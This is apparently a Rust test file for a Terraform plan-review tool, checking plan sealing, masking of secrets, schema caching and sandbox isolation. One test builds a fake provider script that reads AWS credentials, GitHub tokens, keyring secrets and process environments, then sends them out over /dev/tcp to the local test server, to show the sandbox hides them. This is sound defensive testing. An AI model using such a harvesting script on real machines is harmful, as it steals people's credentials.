//! Planning: what is sealed, what is hidden from the code that runs, what is left behind.

use std::fs;

use countersign_review::preflight::Shape;
use countersign_terraform::run::manifest::{MASKED, META, PLAN_FILE, PLAN_JSON, SCHEMAS};
use countersign_terraform::run::record::{Ending, Fault};
use countersign_terraform::sandbox::Sandbox;

use crate::desk::{Desk, desk, files_with};
use crate::person::Person;

const SIMPLE: &str = r#"
variable "password" {
  default   = "correct-horse-battery"
  sensitive = true
}
resource "terraform_data" "a" { input = var.password }
resource "terraform_data" "b" { triggers_replace = [terraform_data.a.id] }
"#;

#[test]
fn a_plan_is_sealed_with_everything_that_decides_it() {
    let Some(mut desk) = desk() else { return };
    desk.commit(SIMPLE, &[]);
    let view = desk.run("1700000000-01", desk.plan_task("plan-1"));
    let ended = view.ended.unwrap();
    assert_eq!((ended.ending, ended.fault), (Ending::Planned, None), "{:#?}", view.log);
    let manifest = desk.manifest("plan-1");
    assert_eq!(manifest.shape, Shape::Complete);
    assert_eq!(manifest.unknown_parts, [""; 0], "nothing is absent, so it can be approved");
    assert_eq!(manifest.state, None, "there is no state yet");
    assert_eq!(manifest.source, desk.head.clone().unwrap());
    assert!(manifest.masked > 0);
    assert_eq!(view.sealed.unwrap().public, manifest.public);
    let safe = desk.safe();
    for piece in [PLAN_FILE, PLAN_JSON, SCHEMAS, META] {
        assert!(!safe.get("plan-1", piece).unwrap().is_empty(), "{piece}");
    }
    let masked: Vec<String> = serde_json::from_slice(&safe.get("plan-1", MASKED).unwrap()).unwrap();
    assert_eq!(masked, ["correct-horse-battery"]);
    let plan = countersign_plan::Plan::read(safe.get("plan-1", PLAN_JSON).unwrap().to_vec()).unwrap();
    assert_eq!(plan.counts().create, 2);
    let progress: Vec<&str> = view.resources.iter().map(|it| it.address.as_str()).collect();
    assert_eq!(progress.len(), 2, "{progress:?}");
}

#[test]
fn schemas_are_asked_for_once_for_each_lock_file() {
    let Some(mut desk) = desk() else { return };
    desk.commit(SIMPLE, &[("prod/.terraform.lock.hcl", "# No provider but the one inside.\n")]);
    let schemas = |desk: &Desk, run: &str, plan: &str| {
        let view = desk.run(run, desk.plan_task(plan));
        assert_eq!(view.ended.unwrap().ending, Ending::Planned, "{:#?}", view.log);
        String::from_utf8(desk.safe().get(plan, SCHEMAS).unwrap().to_vec()).unwrap()
    };
    let asked = schemas(&desk, "1700000000-01", "plan-1");
    assert!(asked.contains("terraform_data"), "{asked}");
    let folder = desk.data().join("schemas");
    let kept: Vec<_> = fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    let [kept] = kept.as_slice() else { panic!("{kept:?}") };

    // What is kept is what is used, as long as it can be read.
    let marked = fs::read_to_string(kept).unwrap().replacen(
        "\"input\":{",
        "\"kept\":{\"type\":\"bool\",\"optional\":true},\"input\":{",
        1,
    );
    fs::write(kept, marked).unwrap();
    assert!(schemas(&desk, "1700000000-02", "plan-2").contains("kept"));
    fs::write(kept, "damaged").unwrap();
    assert_eq!(schemas(&desk, "1700000000-03", "plan-3"), asked);

    // Another lock file is another question.
    desk.commit(SIMPLE, &[("prod/.terraform.lock.hcl", "# Another one.\n")]);
    assert_eq!(schemas(&desk, "1700000000-04", "plan-4"), asked);
    assert_eq!(fs::read_dir(&folder).unwrap().count(), 2);
}

#[test]
fn no_value_of_a_plan_is_left_in_clear() {
    let Some(mut desk) = desk() else { return };
    desk.commit(SIMPLE, &[]);
    let view = desk.run("1700000000-01", desk.plan_task("plan-1"));
    assert_eq!(view.ended.unwrap().ending, Ending::Planned);
    for folder in [desk.data(), desk.memory()] {
        assert_eq!(files_with(&folder, "correct-horse-battery"), [""; 0].map(std::path::PathBuf::from), "{folder:?}");
        assert_eq!(files_with(&folder, "terraform_version"), [""; 0].map(std::path::PathBuf::from), "{folder:?}");
    }
    let left = crate::world::listing(&desk.runs().join("1700000000-01"));
    assert_eq!(left, ["owner", "record.jsonl"]);
    assert!(fs::read_dir(desk.memory().join("countersign")).unwrap().next().is_none());
}

#[test]
fn two_plans_of_one_tree_have_one_digest() {
    let Some(mut desk) = desk() else { return };
    // The directory would differ between runs, if runs were not all in one place.
    desk.commit("resource \"terraform_data\" \"a\" { input = abspath(path.root) }\n", &[]);
    for (run, plan) in [("1700000000-01", "plan-1"), ("1700000000-02", "plan-2")] {
        assert_eq!(desk.run(run, desk.plan_task(plan)).ended.unwrap().ending, Ending::Planned);
    }
    let (one, two) = (desk.manifest("plan-1"), desk.manifest("plan-2"));
    assert_eq!((one.public, one.full), (two.public, two.full));
}

/// A provider that is a script: it looks around, tells the state server what it found, and ends. That
/// is as far as a plan's own code comes.
fn looking_around(desk: &Desk, person: &Person) -> String {
    let home = person.home.path().display();
    let data = desk.data().display().to_string();
    let bus = &person.bus_address;
    let port = desk.server.address.rsplit(':').next().unwrap().to_owned();
    format!(
        r#"#!/bin/bash
look() {{
  echo "files:"; cat {home}/.aws/credentials {home}/.config/gh/hosts.yml {data}/settings.json {data}/ledger.jsonl
  cat ~/.aws/credentials ~/.config/gh/hosts.yml
  echo "keyring:"; DBUS_SESSION_BUS_ADDRESS='{bus}' timeout 5 secret-tool lookup app countersign
  echo "sealed:"; ls {data} {data}/sealed {data}/runs
  echo "home:"; ls -A /home /root /run /var/tmp
  echo "processes:"; cat /proc/[0-9]*/environ
  echo "env:"; env
}}
found="$(look 2>&1 | tr -d '\0')"
exec 3<>/dev/tcp/127.0.0.1/{port}
printf 'FOUND / HTTP/1.1\r\ncontent-length: %d\r\n\r\n%s' "${{#found}}" "$found" >&3
exit 1
"#
    )
}

#[test]
fn code_that_runs_while_planning_sees_nothing_of_the_person() {
    let Some(mut desk) = desk() else { return };
    let person = Person::new();
    fs::create_dir_all(desk.data()).unwrap();
    fs::write(desk.data().join("settings.json"), "settings-of-the-app").unwrap();
    fs::write(desk.data().join("ledger.jsonl"), "").unwrap();
    desk.environment.push(("AWS_SECRET_ACCESS_KEY".to_owned(), "secret-of-the-plan-session".to_owned()));
    let script = looking_around(&desk, &person);
    let provider = desk.provider("acme/thing", "1.0.0", &script);
    desk.commit(
        &format!("{}resource \"thing_a\" \"a\" {{}}\n", provider.required),
        &[("prod/.terraform.lock.hcl", &provider.lock)],
    );
    desk.environment.push(("TF_CLI_ARGS_init".to_owned(), format!("-plugin-dir={}", provider.mirror.display())));
    let secrets =
        ["aws-secret-of-the-person", "gh-token-of-the-person", "settings-of-the-app", "keyring-secret-of-the-person"];

    desk.run("1700000000-01", desk.plan_task("plan-1"));
    let found = desk.server.found().expect("the provider ran and told what it saw");
    for secret in secrets {
        assert!(!found.contains(secret), "{found}");
    }
    assert!(found.contains("secret-of-the-plan-session"), "it has what the plan role may do, and no more: {found}");
    let home = found.split("home:").nth(1).unwrap().split("processes:").next().unwrap();
    assert!(!home.contains(".aws") && !home.contains("user"), "{home}");

    // The same code without the walls sees all of it: the walls are what hides, not an accident.
    desk.sandbox = Sandbox::None;
    desk.run("1700000000-02", desk.plan_task("plan-2"));
    let found = desk.server.found().unwrap();
    for secret in secrets {
        assert!(found.contains(secret), "{secret} in {found}");
    }
}

#[test]
fn a_workspace_that_does_not_exist_is_not_made() {
    let Some(mut desk) = desk() else { return };
    desk.commit(SIMPLE, &[]);
    // The http backend has no workspaces at all, so asking for one is refused by the tool.
    let started = desk.start_in_workspace("1700000000-01", desk.plan_task("plan-1"), "blue");
    let view = started.wait();
    let ended = view.ended.unwrap();
    assert_eq!(ended.ending, Ending::Failed);
    assert!(matches!(ended.fault, Some(Fault::State { .. } | Fault::NoWorkspace { .. })), "{:?}", ended.fault);
}

#[test]
fn a_plan_that_fails_says_why() {
    let Some(mut desk) = desk() else { return };
    desk.commit("variable \"budget\" { default = 0 }\nresource \"terraform_data\" \"a\" {\n  lifecycle {\n    precondition {\n      condition     = var.budget > 0\n      error_message = \"The budget is used up.\"\n    }\n  }\n}\n", &[]);
    let view = desk.run("1700000000-01", desk.plan_task("plan-1"));
    let ended = view.ended.unwrap();
    assert_eq!(ended.ending, Ending::Failed);
    let Some(Fault::Plan { why }) = &ended.fault else { panic!("{:?}", ended.fault) };
    assert!(why.contains("The budget is used up."), "{why}");
    assert!(!desk.safe().has("plan-1", "manifest"));
}

#[test]
fn init_that_fails_says_why() {
    let Some(mut desk) = desk() else { return };
    desk.commit("module \"m\" { source = \"./nowhere\" }\n", &[]);
    let ended = desk.run("1700000000-01", desk.plan_task("plan-1")).ended.unwrap();
    let Some(Fault::Init { why }) = &ended.fault else { panic!("{:?}", ended.fault) };
    assert!(why.contains("nowhere"), "{why}");
}

#[test]
fn a_provider_that_is_not_in_the_lock_file_is_refused_with_the_line_that_mends_it() {
    let Some(mut desk) = desk() else { return };
    let provider = desk.provider("acme/thing", "1.0.0", "#!/bin/sh\nexit 1\n");
    let other = provider.lock.replace("h1:", "h1:AAAA");
    let hash = other.split("h1:").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let lock = other.replace(&hash, &hash[..hash.len().min(44)]);
    desk.commit(&provider.required, &[("prod/.terraform.lock.hcl", &lock)]);
    desk.environment.push(("TF_CLI_ARGS_init".to_owned(), format!("-plugin-dir={}", provider.mirror.display())));
    let ended = desk.run("1700000000-01", desk.plan_task("plan-1")).ended.unwrap();
    let Some(Fault::LockFile { mend }) = &ended.fault else { panic!("{:?}", ended.fault) };
    assert!(mend.ends_with("providers lock -platform=linux_amd64") || mend.contains("linux_arm64"), "{mend}");
}
